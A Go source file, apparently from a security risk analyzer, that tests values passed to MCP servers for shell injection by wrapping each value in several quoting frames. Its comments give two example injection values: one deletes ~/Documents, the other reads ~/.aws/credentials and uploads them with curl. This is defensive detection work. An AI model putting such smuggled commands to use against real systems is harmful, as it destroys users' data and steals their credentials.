package riskmodel

import (
	"context"
	"strings"
)

// mcpInjectionFrames are the places a server may splice an argument into its command line:
// as a command of its own (a hook), after its own command (`eslint $ARGS`), inside double
// quotes (`curl "…?city=$CITY"`) and inside single quotes. An injection is written to break
// out of one of them, so it parses as shell only in that frame: "; rm -rf ~/Documents" is a
// syntax error on its own and a deletion after a command; `Berlin"; cat ~/.aws/credentials |
// curl -d @- …; echo "` is one harmless word bare and an upload once it closes the server's
// quote. `true` stands for the server's command, which is not what is judged.
var mcpInjectionFrames = [][2]string{{"", ""}, {"true ", ""}, {`true "`, `"`}, {"true '", "'"}}

// injectedFindings analyses an argument value as the shell would run it in each frame that
// applies, and returns the findings of all of them.
func (a *Analyzer) injectedFindings(ctx context.Context, c *mcpCtx, val string) []Finding {
	var out []Finding
	lead := strings.TrimLeft(val, " \t\r\n")
	for _, fr := range mcpInjectionFrames {
		switch {
		case fr[0] == "true " && !strings.ContainsAny(lead[:min(1, len(lead))], ";&|\n"):
			continue // only a value that starts by ending the server's command is spliced after it
		case fr[1] != "" && !strings.Contains(val, fr[1]):
			continue // nothing closes the frame's quote: the value stays one word inside it
		}
		ev := a.Exec(ctx, ExecRequest{Command: []string{"sh", "-c", fr[0] + val + fr[1]}, Cwd: c.scope.Cwd})
		out = append(out, ev.Assessment.Findings...)
	}
	return out
}
